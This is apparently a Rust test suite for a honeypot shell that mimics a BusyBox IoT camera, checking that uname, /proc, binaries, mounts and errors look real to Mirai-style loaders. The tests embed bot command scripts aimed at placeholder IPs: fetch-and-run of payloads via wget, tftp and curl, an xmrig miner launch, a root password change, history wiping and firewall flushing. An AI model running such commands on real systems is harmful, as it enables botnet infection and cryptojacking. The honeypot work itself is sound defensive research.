//! The BusyBox camera persona through the whole shell: every place that shows the
//! machine tells of the same ARMv7 device, as a Mirai-like loader reads it.

use super::tests::{limits, origin};
use super::*;

fn device() -> Shell {
    device_on(persona::Arch::Arm)
}

fn device_on(arch: persona::Arch) -> Shell {
    let world = World::new(Persona::busybox_device("cam-1", vec!["admin".into()], arch));
    Shell::new(world, "root", limits(1000), origin("192.168.1.108"), false)
}

/// stdout then stderr of `line`, as bytes.
fn run_bytes(sh: &mut Shell, line: &str) -> Vec<u8> {
    let out = sh.exec(line);
    let mut all = out.data;
    all.extend_from_slice(&out.err);
    all
}

fn run(sh: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&run_bytes(sh, line)).into_owned()
}

/// EI_CLASS, EI_DATA and e_machine of an ELF header.
fn elf_kind(header: &[u8]) -> (u8, u8, u16) {
    assert!(header.starts_with(b"\x7fELF"), "{header:?}");
    (
        header[4],
        header[5],
        u16::from_le_bytes([header[18], header[19]]),
    )
}

#[test]
fn uname_cpuinfo_memory_and_mounts_tell_of_one_armv7_device() {
    let mut sh = device();
    assert_eq!(run(&mut sh, "uname -m"), "armv7l\n");
    assert_eq!(run(&mut sh, "arch"), "armv7l\n");
    assert_eq!(
        run(&mut sh, "uname -a"),
        "Linux cam-1 4.9.37 #1 SMP Tue Jan 14 16:35:27 CST 2020 armv7l GNU/Linux\n"
    );
    assert_eq!(run(&mut sh, "uname -r"), "4.9.37\n");
    let cpuinfo = run(&mut sh, "cat /proc/cpuinfo");
    for field in [
        "model name\t: ARMv7 Processor rev 5 (v7l)",
        "BogoMIPS\t:",
        "Features\t: half thumb",
        "CPU implementer\t: 0x41",
        "CPU architecture: 7",
        "CPU part\t: 0xc07",
        "Hardware\t: Hisilicon",
        "Serial\t\t:",
    ] {
        assert!(cpuinfo.contains(field), "{field} in {cpuinfo}");
    }
    assert!(!cpuinfo.contains("Intel") && !cpuinfo.contains("flags"));
    let processors = run(&mut sh, "grep -c processor /proc/cpuinfo");
    assert_eq!(run(&mut sh, "nproc"), processors);
    assert!(run(&mut sh, "cat /proc/version").contains("4.9.37"));
    // Memory: tens of MB, the same total in /proc/meminfo, `free` and `top`.
    let total = run(&mut sh, "grep MemTotal /proc/meminfo");
    assert_eq!(total, "MemTotal:          59492 kB\n");
    let free = run(&mut sh, "free");
    assert!(
        free.starts_with("             total       used       free     shared    buffers     cached\nMem:         59492 "),
        "{free}"
    );
    assert!(free.contains("-/+ buffers/cache:"), "{free}");
    assert!(run(&mut sh, "top").starts_with("Mem: "));
    // Mounts: squashfs root, tmpfs /var and /tmp, writable flash; df agrees.
    let mounts = run(&mut sh, "cat /proc/mounts");
    for line in [
        "/dev/root / squashfs ro",
        "tmpfs /var tmpfs rw",
        "tmpfs /tmp tmpfs rw",
        "proc /proc proc",
        "sysfs /sys sysfs",
        "devpts /dev/pts devpts",
        "/dev/mtdblock4 /mnt/mtd jffs2 rw",
    ] {
        assert!(mounts.contains(line), "{line} in {mounts}");
    }
    assert_eq!(run(&mut sh, "mount"), mounts);
    let df = run(&mut sh, "df");
    for mounted in [" /\n", " /var\n", " /tmp\n", " /mnt/mtd\n"] {
        assert!(df.contains(mounted), "{mounted} in {df}");
    }
    // What the loader checks is writable is.
    assert_eq!(
        run(
            &mut sh,
            "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.n; cat /mnt/mtd/.n; rm /mnt/mtd/.n"
        ),
        "kami/mnt/mtd\n"
    );
}

#[test]
fn binaries_are_32_bit_arm_links_to_busybox() {
    let mut sh = device();
    let echo = run_bytes(&mut sh, "cat /bin/echo");
    assert_eq!(elf_kind(&echo), (1, 1, 0x28), "ELFCLASS32, LSB, EM_ARM");
    assert_eq!(run_bytes(&mut sh, "/bin/busybox cat /bin/echo"), echo);
    let dd = sh.exec("dd bs=52 count=1 if=/bin/echo");
    assert_eq!(dd.data, echo[..52]);
    assert_eq!(
        String::from_utf8_lossy(&dd.err),
        "1+0 records in\n1+0 records out\n52 bytes (52B) copied, 0.000112 seconds, 464.0KB/s\n"
    );
    assert_eq!(
        run(&mut sh, "ls -l /bin/echo")
            .trim_end()
            .rsplit(' ')
            .next(),
        Some("/bin/busybox")
    );
    assert!(run(&mut sh, "ls -l /bin/echo").starts_with("lrwxrwxrwx"));
    assert!(run(&mut sh, "ls -l /bin/busybox").starts_with("-rwxr-xr-x 1 root root 1034612 "));
    assert_eq!(
        run(&mut sh, "ls /bin/echo /sbin/reboot"),
        "/bin/echo\n/sbin/reboot\n"
    );
    // BusyBox has no `file`; what it would say is the persona's.
    assert_eq!(
        run(&mut sh, "busybox file /bin/busybox"),
        "file: applet not found\n"
    );
    assert!(
        sh.world
            .persona
            .elf_description()
            .starts_with("ELF 32-bit LSB executable, ARM, EABI5")
    );
    assert_eq!(
        run(&mut sh, "which echo ifconfig wget"),
        "/bin/echo\n/sbin/ifconfig\n/usr/bin/wget\n"
    );
    // A copied binary (Mirai's dvrHelper) is the same ARM file.
    run(
        &mut sh,
        "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; /bin/busybox chmod 777 dvrHelper",
    );
    assert_eq!(
        elf_kind(&run_bytes(&mut sh, "cat /tmp/dvrHelper")),
        (1, 1, 0x28)
    );
    // A fetched "binary" too.
    run(
        &mut sh,
        "wget -q http://198.51.100.23/bins/mirai.arm7 -O /tmp/m",
    );
    assert_eq!(elf_kind(&run_bytes(&mut sh, "cat /tmp/m")), (1, 1, 0x28));
    // No Debian tree.
    let root = run(&mut sh, "ls /");
    assert!(
        !root.contains("lib64") && !root.contains("boot") && root.contains("mnt"),
        "{root}"
    );
    assert!(run(&mut sh, "ls /usr/lib/x86_64-linux-gnu").contains("No such file"));
    assert!(run(&mut sh, "cat /etc/os-release").contains("No such file"));
}

#[test]
fn busybox_lists_what_the_tree_has_and_refuses_the_rest() {
    let mut sh = device();
    let usage = run(&mut sh, "busybox");
    assert!(
        usage.starts_with("BusyBox v1.24.1 (2019-11-28 10:21:44 CST) multi-call binary.\n"),
        "{usage}"
    );
    let (_, listed) = usage.split_once("Currently defined functions:\n").unwrap();
    let listed: Vec<&str> = listed
        .split([',', '\n', '\t', ' '])
        .filter(|a| !a.is_empty())
        .collect();
    assert_eq!(listed, persona::device::APPLETS);
    assert_eq!(
        run(&mut sh, "busybox --list").lines().collect::<Vec<_>>(),
        listed
    );
    for applet in &listed {
        // Installed as a link to the binary...
        let path = run(&mut sh, &format!("which {applet}"));
        assert!(path.ends_with(&format!("/{applet}\n")), "{applet}: {path}");
        assert!(run(&mut sh, &format!("ls -l {}", path.trim_end())).contains("-> /bin/busybox"));
        // ...and emulated: neither the name nor the applet is "not found".
        for line in [applet.to_string(), format!("/bin/busybox {applet}")] {
            let mut fresh = device();
            let out = run(&mut fresh, &line);
            assert!(!out.contains("not found"), "{line}: {out}");
        }
    }
    assert_eq!(
        run(&mut sh, "/bin/busybox MIRAI"),
        "MIRAI: applet not found\n"
    );
    assert_eq!(run(&mut sh, "busybox lscpu"), "lscpu: applet not found\n");
    // What a Debian box has and a camera does not.
    for missing in [
        "lscpu",
        "apt-get install curl",
        "python3 -V",
        "perl -e 1",
        "sudo id",
        "systemctl status",
        "bash -c id",
        "getconf LONG_BIT",
    ] {
        let name = missing.split(' ').next().unwrap();
        assert_eq!(run(&mut sh, missing), format!("-sh: {name}: not found\n"));
    }
    assert_eq!(
        run(&mut sh, "/usr/bin/perl -e 1"),
        "-sh: /usr/bin/perl: not found\n"
    ); // The vendor's curl is a binary of its own, not an applet.
    assert!(run(&mut sh, "ls -l /usr/bin/curl").starts_with("-rwxr-xr-x"));
    assert_eq!(run(&mut sh, "busybox curl"), "curl: applet not found\n");
    let out = sh.exec("curl -s -O http://198.51.100.2/x.sh");
    assert!(
        out.actions
            .iter()
            .any(|a| matches!(a, Action::Download { tool: "curl", .. }))
    );
    // A user of the camera has no sudo group.
    let world = World::new(Persona::busybox_device(
        "cam-1",
        vec!["admin".into()],
        persona::Arch::Arm,
    ));
    let mut admin = Shell::new(world, "admin", limits(10), origin("192.168.1.108"), false);
    assert_eq!(
        run(&mut admin, "id; groups"),
        "uid=1000(admin) gid=1000(admin) groups=1000(admin)\nadmin\n"
    );
    assert_eq!(admin.prompt(), "~ $ ");
}

#[test]
fn accounts_processes_and_network_are_the_devices() {
    let mut sh = device();
    let passwd = run(&mut sh, "cat /etc/passwd");
    assert!(
        passwd.starts_with("root:x:0:0:root:/root:/bin/sh\n"),
        "{passwd}"
    );
    assert!(passwd.contains("admin:x:1000:1000:Linux User,,,:/home/admin:/bin/sh\n"));
    assert!(!passwd.contains("nologin") && !passwd.contains("systemd"));
    assert!(run(&mut sh, "head -n 1 /etc/shadow").starts_with("root:$1$"));
    let ps = run(&mut sh, "ps");
    assert!(
        ps.starts_with("  PID USER       VSZ STAT COMMAND\n    1 root      1580 S    init\n"),
        "{ps}"
    );
    assert!(ps.contains(" telnetd\n") && ps.contains(" -sh\n") && !ps.contains("systemd"));
    assert_eq!(run(&mut sh, "ps aux"), ps);
    let ifconfig = run(&mut sh, "ifconfig");
    assert!(
        ifconfig.starts_with("eth0      Link encap:Ethernet  HWaddr 00:12:41:3A:1C:2D"),
        "{ifconfig}"
    );
    assert!(ifconfig.contains("inet addr:192.168.1.108  Bcast:192.168.1.255  Mask:255.255.255.0"));
    assert!(run(&mut sh, "ip link").contains("link/ether 00:12:41:3a:1c:2d"));
    assert!(run(&mut sh, "ip route").contains("src 192.168.1.108"));
    assert!(run(&mut sh, "netstat -an").contains("0.0.0.0:23 "));
    assert_eq!(
        run(&mut sh, "echo $SHELL $PATH"),
        "/bin/sh /bin:/sbin:/usr/bin:/usr/sbin\n"
    );
    assert_eq!(run(&mut sh, "echo \"[$BASH_VERSION]\""), "[]\n");
    assert_eq!(run(&mut sh, "nosuch"), "-sh: nosuch: not found\n");
    assert_eq!(run(&mut sh, "[ 1 = 1"), "-sh: [: missing `]'\n");
}

#[test]
fn the_login_greets_with_the_devices_busybox_and_an_ash_prompt() {
    let mut sh = device();
    let greeting = String::from_utf8_lossy(&sh.greeting().data).into_owned();
    assert!(
        greeting.contains("BusyBox v1.24.1 (2019-11-28 10:21:44 CST) built-in shell (ash)"),
        "{greeting}"
    );
    assert!(greeting.ends_with("~ # "), "{greeting}");
    run(&mut sh, "cd /tmp");
    assert_eq!(sh.prompt(), "/tmp # ");
}

#[test]
fn the_squashfs_root_is_read_only_and_errors_are_busyboxs() {
    let mut sh = device();
    assert_eq!(
        run(&mut sh, "echo x > /etc/x"),
        "-sh: can't create /etc/x: Read-only file system\n"
    );
    assert_eq!(
        run(&mut sh, "rm /bin/busybox"),
        "rm: can't remove '/bin/busybox': Read-only file system\n"
    );
    assert_eq!(
        run(&mut sh, "mkdir /root/.ssh"),
        "mkdir: can't create directory '/root/.ssh': Read-only file system\n"
    );
    assert_eq!(
        run(&mut sh, "touch /usr/x"),
        "touch: /usr/x: Read-only file system\n"
    );
    // The download is still reported, though the camera could not keep it.
    let out = sh.exec("wget http://198.51.100.7/x.sh");
    assert!(
        out.actions.iter().any(
            |a| matches!(a, Action::Download { url, .. } if url == "http://198.51.100.7/x.sh")
        )
    );
    assert!(String::from_utf8_lossy(&out.err).contains("Read-only file system"));
    // The mounts /proc/mounts calls rw are writable.
    for dir in ["/tmp", "/var/tmp", "/var/run", "/dev", "/mnt/mtd"] {
        assert_eq!(
            run(&mut sh, &format!("echo ok > {dir}/.w && cat {dir}/.w")),
            "ok\n",
            "{dir}"
        );
    }
    assert_eq!(
        run(&mut sh, "cat /nope"),
        "cat: can't open '/nope': No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "ls /nope"),
        "ls: /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "cd /nope"),
        "-sh: cd: can't cd to /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut sh, "rm /tmp/nope"),
        "rm: can't remove '/tmp/nope': No such file or directory\n"
    );
}

#[test]
fn a_mips_camera_is_mips_wherever_it_shows() {
    let mut sh = device_on(persona::Arch::Mipsel);
    assert_eq!(run(&mut sh, "uname -m"), "mips\n");
    assert!(run(&mut sh, "uname -a").ends_with(" mips GNU/Linux\n"));
    assert!(run(&mut sh, "cat /proc/version").contains("3.10.14__isvp_swan_1.0__"));
    let cpuinfo = run(&mut sh, "cat /proc/cpuinfo");
    assert!(
        cpuinfo.starts_with("system type\t\t: Ingenic Xburst\n"),
        "{cpuinfo}"
    );
    assert!(cpuinfo.contains("isa\t\t\t: mips1 mips2 mips32r1 mips32r2"));
    assert!(!cpuinfo.contains("ARM"));
    // ELFCLASS32, little-endian, EM_MIPS: Mirai's "mpsl" build.
    for read in ["cat /bin/echo", "/bin/busybox cat /bin/sh"] {
        assert_eq!(elf_kind(&run_bytes(&mut sh, read)), (1, 1, 0x08), "{read}");
    }
    assert!(run(&mut sh, "ifconfig").contains("HWaddr A0:9F:10:3A:1C:2D"));
    assert!(run(&mut sh, "busybox").contains("BusyBox v1.24.1"));
}

#[test]
fn the_debian_machine_keeps_its_x86_64_binaries() {
    let world = World::new(Persona::debian("web-1", vec![]));
    let debian = || Shell::new(world.clone(), "root", limits(50), origin("10.0.0.5"), false);
    let mut sh = debian();
    assert_eq!(elf_kind(&run_bytes(&mut sh, "cat /bin/echo")), (2, 1, 0x3e));
    assert!(run(&mut sh, "file /bin/ls").contains("ELF 64-bit LSB pie executable, x86-64"));
    assert_eq!(run(&mut sh, "getconf LONG_BIT"), "64\n");
    let usage = run(&mut sh, "busybox");
    assert!(usage.contains("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3)"));
    assert!(
        usage.contains("Currently defined functions:\n\t[, arch, ash, awk,"),
        "{usage}"
    );
    for applet in persona::debian::APPLETS {
        let out = run(&mut debian(), &format!("busybox {applet} </dev/null"));
        assert!(!out.contains("not found"), "{applet}: {out}");
    }
    assert!(run(&mut sh, "lscpu").starts_with("Architecture:            x86_64"));
    assert!(run(&mut sh, "cat /proc/mounts").starts_with("/dev/vda1 / ext4"));
}

#[test]
fn a_server_bots_script_misses_only_what_no_camera_has() {
    // The SSH tests' bot script (tests/tests.rs), typed at the camera.
    const SCRIPT: &str = r#"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh
cd /tmp; wget -q http://198.51.100.7/x -O .x; chmod +x .x; ./.x
cat /proc/cpuinfo | grep name | wc -l
uname -a; nproc; free -m
busybox ps; busybox cat /proc/mounts | head -1
crontab -l
ls -la /dev/shm; ls -la ~/.ssh
unset HISTFILE; export HISTFILE=/dev/null; history -c
cat /etc/issue
lscpu | grep Model; top -bn1 | head -3
ps aux | grep -v grep | grep xmrig; pkill -9 xmrig; killall -9 kinsing
chattr -ia /etc/passwd; lsattr /etc/passwd
echo 'root:Abc123' | chpasswd
mkdir -p /tmp/.x && cd /tmp/.x && curl -s -O http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz; nohup ./xmrig -o pool:3333 >/dev/null 2>&1 &
which ls wget curl perl; getconf LONG_BIT; arch
for i in 1 2 3; do echo $i; done
find /tmp -maxdepth 1 -type d | head -3; od -c /etc/hostname | head -1
ulimit -n 65535; sysctl -w vm.nr_hugepages=128; iptables -F; systemctl stop firewalld
cat /proc/version; uptime; w; id"#;
    let mut missing = Vec::new();
    for line in SCRIPT.lines() {
        let mut sh = device();
        let out = sh.exec(line);
        for (_, notes) in with_notes(out.actions) {
            missing.extend(notes.unknown);
        }
    }
    // (`./xmrig` is missing on Debian too: `tar` extracts nothing.)
    assert_eq!(missing, ["lscpu", "./xmrig", "getconf", "systemctl"]);
}
